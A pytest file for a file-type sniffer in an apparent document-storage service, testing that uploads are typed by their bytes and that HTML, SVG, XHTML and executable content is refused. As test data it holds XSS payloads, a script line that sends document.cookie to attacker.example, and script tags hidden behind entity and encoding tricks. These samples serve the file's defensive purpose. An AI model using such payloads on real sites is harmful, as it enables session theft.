"""The type is read from the bytes; the client's filename and content type count for nothing."""

from __future__ import annotations

from collections.abc import Awaitable, Callable
from typing import Any

import pytest

from pdvault.documents.sniff import sniff
from tests.conftest import Issued
from tests.documents.conftest import (
    GIF,
    JPEG,
    PDF,
    PNG,
    TEXT,
    TIFF,
    WEBP,
    XML,
    Download,
    Upload,
    document_events,
)
from tests.helpers import assert_problem

MakeCustomer = Callable[..., Awaitable[str]]

ACCEPTED = [
    (PDF, "application/pdf"),
    (PNG, "image/png"),
    (JPEG, "image/jpeg"),
    (GIF, "image/gif"),
    (WEBP, "image/webp"),
    (TIFF, "image/tiff"),
    (b"MM\x00*\x00\x00\x00\x08", "image/tiff"),
    (XML, "application/xml"),
    (b"\xef\xbb\xbf  \n<?xml version='1.0'?><a/>", "application/xml"),
    (TEXT, "text/plain"),
    (b"#!/bin/sh\necho 'not run, just text'\n", "text/plain"),
]

REFUSED = [
    b"<html><body><script>alert(1)</script></body></html>",
    b"<!DOCTYPE html><p>hi</p>",
    b"  <script>alert(1)</script>",
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>',
    b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"></html>',
    b"PK\x03\x04\x14\x00\x06\x00",  # docx / xlsx / any zip
    b"MZ\x90\x00\x03\x00\x00\x00",  # a Windows executable
    b"\x7fELF\x02\x01\x01\x00",
    b"text with a NUL\x00 inside",
    b"\xff\xfe\x00\x00 not utf-8 \xc3\x28",
    b"RIFF\x24\x00\x00\x00WAVEfmt ",  # RIFF, but audio
]


@pytest.mark.parametrize(("data", "expected"), ACCEPTED)
def test_accepted_types(data: bytes, expected: str) -> None:
    found = sniff(data)
    assert found is not None
    assert found.content_type == expected


@pytest.mark.parametrize("data", REFUSED)
def test_refused_types(data: bytes) -> None:
    assert sniff(data) is None


async def test_a_png_named_pdf_is_a_png(
    upload: Upload, download: Download, shop: Issued, staff: Issued, make_customer: MakeCustomer
) -> None:
    cid = await make_customer()
    r = await upload(shop, cid, PNG, filename="hoa-don.pdf", declared="application/pdf")
    assert r.status_code == 201, r.text
    assert r.json()["content_type"] == "image/png"
    r = await download(staff, cid, r.json()["id"], "accounting")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "image/png"
    assert r.headers["content-disposition"].endswith('.png"')
    assert "hoa-don" not in r.headers["content-disposition"]


async def test_a_script_named_pdf_is_refused_and_logged(
    app: Any, upload: Upload, shop: Issued, make_customer: MakeCustomer
) -> None:
    cid = await make_customer()
    script = b"<script>fetch('https://attacker.example/?c='+document.cookie)</script>"
    r = await upload(shop, cid, script, filename="hoa-don.pdf", declared="application/pdf")
    assert_problem(r, 415)
    assert "attacker" not in r.text
    events = await document_events(app, action="document.upload")
    assert [(e["outcome"], e["reason"]) for e in events] == [("denied", "unsupported_media_type")]


async def test_text_is_served_as_plain_text_never_as_declared(
    upload: Upload, download: Download, shop: Issued, make_customer: MakeCustomer
) -> None:
    cid = await make_customer()
    r = await upload(shop, cid, TEXT, filename="x.html", declared="text/html")
    assert r.status_code == 201, r.text
    assert r.json()["content_type"] == "text/plain"
    r = await download(shop, cid, r.json()["id"], "customer_self_service")
    assert r.headers["content-type"] == "text/plain; charset=utf-8"
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.content == TEXT


# XHTML or SVG named through character references (or an entity, or another encoding): what a
# browser reads is the namespace, so the check reads what the browser reads (issue 14.13).
HIDDEN_NAMESPACE = [
    b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/x&#104;tml">alert(1)'
    b"</x:script>",
    b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/&#x78;&#X68;tml">a</x:script>',
    b'<?xml version="1.0"?><s:svg xmlns:s="&#104;&#116;&#116;&#112;://www.w3.org/2000/svg">'
    b"<s:script>alert(1)</s:script></s:svg>",
    b'<?xml version="1.0"?><s:svg xmlns:s="http://www.w3.org/2000/&#115;vg"/>',
    # An entity assembles the namespace from pieces that are each harmless.
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "http://www.w3.org/1999/x">'
    b'<!ENTITY b "html">]><x:script xmlns:x="&a;&b;">alert(1)</x:script>',
    # A declared encoding other than the UTF-8 the bytes were checked as.
    b'<?xml version="1.0" encoding="UTF-7"?><x:script xmlns:x="+AGg-ttp://x">a</x:script>',
    # A character reference that is no character.
    b'<?xml version="1.0"?><a b="&#x110000;"/>',
    b'<?xml version="1.0"?><a b="&#99999999999999999999;"/>',
]


@pytest.mark.parametrize("data", HIDDEN_NAMESPACE)
def test_a_namespace_hidden_behind_references_is_refused(data: bytes) -> None:
    assert sniff(data) is None


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0" encoding="utf-8"?><HDon><Ten>Nguy&#7877;n V&#x103;n M&#7851;u'
        b'</Ten><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/></HDon>',
        b"<?xml version='1.0' encoding='UTF-8' standalone='yes'?><a>&lt;b&gt; &amp; &#38;</a>",
    ],
)
def test_an_e_invoice_with_references_is_still_xml(data: bytes) -> None:
    found = sniff(data)
    assert found is not None
    assert found.content_type == "application/xml"
